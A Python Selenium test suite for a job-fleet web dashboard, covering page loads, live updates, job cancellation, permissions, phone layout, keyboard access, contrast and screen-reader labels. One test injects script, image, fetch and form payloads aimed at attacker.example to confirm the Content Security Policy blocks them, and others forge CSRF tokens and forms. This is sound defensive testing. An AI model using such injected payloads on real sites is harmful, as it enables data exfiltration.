"""The web page of a real fleet in Chromium: what people see, by mouse, by keyboard, on a phone and in the dark."""

import re
from collections.abc import Iterator
from contextlib import closing
from urllib.parse import quote

import pytest
from selenium.webdriver.common.keys import Keys

from stockworker.client import Client
from stockworker.market.store import open_market_store
from stockworker.protocol.lifecycle import State
from tests.harness.browser import Browser, browsing
from tests.harness.fleet import Fleet, python_handlers
from tests.harness.jobs import as_client, until_state
from tests.harness.sample_data import sample_bars
from tests.harness.waiting import wait_until
from tests.harness.web_page import PASSWORD, Page, make_accounts, serving

PHONE = 390
FAILURE = {"way": "permanent error", "text": "ACME was delisted", "times": 1}
CANCEL = "Cancel this job"
CHART = "/market/chart?symbol=AAPL&indicator=sma&indicator=rsi&span=1+year"


def submitted(fleet: Fleet, job_type: str, payload: object = None) -> str:
    async def submit(client: Client) -> str:
        return await client.submit(job_type, payload)

    return f"client:{as_client(fleet, submit)}"


@pytest.fixture(scope="module")
def fleet(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Fleet]:
    settings = {"handlers": python_handlers("echo", "say"), "dispatcher": {"job_defaults": {"max_attempts": 1}}}
    with Fleet(tmp_path_factory.mktemp("fleet"), workers=1, settings=settings) as fleet:
        with closing(open_market_store(str(fleet.market_data))) as store:
            store.upsert({"AAPL": sample_bars()["AAPL"]})
        yield fleet


@pytest.fixture(scope="module")
def page(fleet: Fleet, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Page]:
    folder = tmp_path_factory.mktemp("page")
    with serving(fleet, folder, accounts=make_accounts(folder)) as page:
        yield page


@pytest.fixture(scope="module")
def window() -> Iterator[Browser]:
    with browsing() as found:
        yield found


@pytest.fixture(scope="module")
def paths(fleet: Fleet, page: Page, window: Browser) -> list[str]:
    """A page of each kind. The fleet has jobs that wait, jobs that failed, and a worker."""
    failed, waiting = submitted(fleet, "say", FAILURE), submitted(fleet, "no_such_type")
    until_state(fleet, failed, State.FAILED)
    sign_in(window, page, "oscar")
    window.await_text("no_such_type")
    jobs = [f"/jobs/{quote(job_id)}" for job_id in (failed, waiting)]
    return ["/", "/jobs", *jobs, "/workers/host-1", "/market", CHART, "/nothing", "/sign-in"]


@pytest.fixture(autouse=True)
def usual(window: Browser) -> None:
    """Each test begins with a wide window, in the light."""
    window.resize(1280, 900)
    window.prefer("light")


def sign_in(window: Browser, page: Page, name: str) -> None:
    window.driver.delete_all_cookies()
    window.open(page.url)
    window.fill("[name=name]", name)
    window.fill("[name=password]", PASSWORD + Keys.ENTER)
    window.await_text(f"{name} (")


# --- the page and the network -----------------------------------------------------------------------------------------


def test_each_page_loads_without_complaints_from_the_page_alone(page: Page, window: Browser, paths: list[str]) -> None:
    window.requests()
    window.complaints()
    for path in paths:
        window.open(page.url + path)
        missing = ["Failed to load resource: the server responded with a status of 404"] if path == "/nothing" else []
        assert [each.partition(" - ")[2].partition(" (")[0] for each in window.complaints()] == missing, path
    asked = window.requests()
    assert [each for each in asked if not each.startswith(f"{page.url}/")] == []
    assert {f"{page.url}/events", f"{page.url}/static/page.css", f"{page.url}/static/page.js"} < {*asked}


@pytest.mark.parametrize(
    ("attack", "directive"),
    [
        ("const s = document.createElement('script'); s.textContent = 'window.was = 1'; document.body.append(s)", "script-src"),
        ("const i = document.createElement('img'); i.src = 'https://attacker.example/i'; document.body.append(i)", "img-src"),
        ("fetch('https://attacker.example/').catch(() => 0)", "connect-src"),
        ("document.body.setAttribute('style', 'color: red')", "style-src"),
        ("document.body.innerHTML += '<form id=f action=https://attacker.example></form>'; f.submit()", "form-action"),
    ],
)  # fmt: skip
def test_what_got_into_the_page_neither_runs_nor_leaves(
    page: Page, window: Browser, paths: list[str], attack: str, directive: str
) -> None:
    window.open(page.url + paths[1])
    window.complaints()
    window.requests()
    window.script(attack)
    breach = re.compile(rf"violates the following Content Security Policy directive:? [\"']{directive} ")
    wait_until(lambda: any(map(breach.search, window.complaints())), "the browser reports the breach")
    assert not window.script("return window.was")
    assert not [each for each in window.requests() if "attacker" in each]


def test_a_figure_changes_without_a_reload_and_the_keyboard_stays(
    fleet: Fleet, page: Page, window: Browser, paths: list[str]
) -> None:
    window.open(page.url + paths[0])
    window.await_text("host-1")
    before = int(window.text("#state-queued .number"))
    window.script("window.loaded = 'once'; document.getElementById('state-failed').focus()")
    for _ in range(2):
        submitted(fleet, "no_such_type")
    wait_until(lambda: window.text("#state-queued .number") == str(before + 2), "the figure changes by itself")
    assert window.script("return window.loaded") == "once"
    assert window.script("return document.activeElement.id") == "state-failed"
    assert f"queued {before + 2}" not in window.text("#state-failed")


# --- jobs -------------------------------------------------------------------------------------------------------------


def test_the_search_finds_a_job_and_shows_its_story(
    fleet: Fleet, page: Page, window: Browser, paths: list[str]
) -> None:
    job_id = submitted(fleet, "echo", {"answer": 42})
    until_state(fleet, job_id, State.COMPLETED)
    window.open(page.url + paths[1])
    window.fill("[role=search] input", job_id + Keys.ENTER)
    window.await_text(job_id, "h1")
    assert "it is completed" in window.text("section[aria-labelledby=why-heading]")
    steps = window.text("section[aria-labelledby=timeline-heading]")
    assert [word in steps for word in ("submitted", "attempt 1 assigned to host-1", "attempt 1: ok after")] == [
        True
    ] * 3
    assert '"answer": 42' in window.text("section[aria-labelledby=result-heading]")
    window.open(page.url + paths[2])
    assert "ACME was delisted" in window.text("section[aria-labelledby=timeline-heading]")


def reach(window: Browser, selector: str) -> None:
    """Press Tab until an element has the focus."""
    for _ in range(60):
        window.press(Keys.TAB)
        if window.script(f"return document.activeElement.matches({selector!r})"):
            return
    raise AssertionError(f"Tab does not reach {selector}")


def test_an_operator_cancels_a_job_with_the_keyboard(
    fleet: Fleet, page: Page, window: Browser, paths: list[str]
) -> None:
    job_id = submitted(fleet, "no_such_type")
    window.open(f"{page.url}/jobs/{quote(job_id)}")
    assert window.text("button.danger") == CANCEL
    window.script("document.querySelector('button.danger').form.token.value = 'guess'")
    reach(window, "button.danger")
    window.press(Keys.ENTER)
    window.await_text("the form is not one of this session")
    until_state(fleet, job_id, State.QUEUED)

    window.open(f"{page.url}/jobs/{quote(job_id)}")
    reach(window, "button.danger")
    window.press(Keys.ENTER)
    window.await_text("The job is cancelled.")
    until_state(fleet, job_id, State.CANCELLED)
    assert paths


def test_a_viewer_has_no_button_and_a_forged_form_is_refused(
    fleet: Fleet, page: Page, window: Browser, paths: list[str]
) -> None:
    path = paths[3]
    sign_in(window, page, "vera")
    try:
        window.open(page.url + path)
        window.await_text("no_such_type")
        assert CANCEL not in window.text()
        window.script(f"const f = document.querySelector('form.who'); f.action = '{path}/cancel'; f.submit()")
        window.await_text("only an operator may do this")
    finally:
        sign_in(window, page, "oscar")
    until_state(fleet, path.removeprefix("/jobs/").replace("%3A", ":"), State.QUEUED)


# --- people and their machines ----------------------------------------------------------------------------------------


def test_on_a_phone_nothing_is_wider_than_the_window(page: Page, window: Browser, paths: list[str]) -> None:
    window.resize(PHONE, 844, phone=True)
    widest = (
        "return [document.documentElement, ...document.querySelectorAll('.wide')]"
        ".every(each => each.scrollWidth <= each.clientWidth) && innerWidth"
    )
    for path in paths:
        window.open(page.url + path)
        assert window.script(widest) == PHONE, path
    window.open(page.url + paths[1])
    assert window.script("return getComputedStyle(document.querySelector('td'), '::before').content") == '"Type"'
    window.open(page.url + CHART)
    assert window.script("return document.querySelector('.drawing').currentSrc").endswith("&width=narrow")


def test_every_control_is_reached_by_tab_and_shows_its_focus(page: Page, window: Browser, paths: list[str]) -> None:
    look = "const e = document.activeElement, s = getComputedStyle(e); return [e.outerHTML, s.outlineStyle, s.outlineWidth]"
    controls = (
        "return [...document.querySelectorAll('a, button, input:not([type=hidden]), select')].map(e => e.outerHTML)"
    )
    for path in (paths[1], paths[3], paths[4], paths[-1]):
        window.open(page.url + path)
        wanted = window.script(controls)
        seen = {}
        for _ in (*wanted, "the window itself, between the last control and the first"):
            window.press(Keys.TAB)
            html, *outline = window.script(look)
            if not html.startswith("<body"):
                seen[html] = outline
        assert set(seen) == set(wanted), path
        assert [html for html, (style, width) in seen.items() if style == "none" or width == "0px"] == []


def test_the_keyboard_can_skip_the_header(page: Page, window: Browser, paths: list[str]) -> None:
    window.open(page.url + paths[1])
    window.press(Keys.TAB)
    assert window.script("return document.activeElement.getBoundingClientRect().left") >= 0
    window.press(Keys.ENTER)
    wait_until(lambda: window.script("return document.activeElement.id") == "content", "the content has the focus")
    window.press(Keys.TAB)
    assert window.script("return document.activeElement.name") == "state"


def test_texts_are_legible_in_the_light_and_in_the_dark(page: Page, window: Browser, paths: list[str]) -> None:
    papers = {}
    for scheme in ("light", "dark"):
        window.prefer(scheme)
        for path in paths:
            window.open(page.url + path)
            colours = window.colours()
            assert colours, path
            faint = [(each.text, each.contrast) for each in colours if each.contrast < 4.5]
            assert faint == [], (scheme, path)
        papers[scheme] = window.script("return getComputedStyle(document.body).backgroundColor")
    assert papers["light"] == "rgb(255, 255, 255)"
    assert papers["dark"] != papers["light"]


def test_charts_and_controls_have_names_for_screen_readers(page: Page, window: Browser, paths: list[str]) -> None:
    kinds = ("image", "img", "link", "button", "textbox", "combobox", "checkbox", "table")
    found = {}
    for path in paths:
        window.open(page.url + path)
        found[path] = window.accessible(*kinds)
        assert [each for each in found[path] if not each[1].strip()] == [], path
    (throughput,) = (name for role, name in found["/"] if role == "image")
    assert throughput.startswith("Jobs per second in the last")
    assert ("image", "Close of AAPL with sma, rsi, 1 year") in found[CHART]
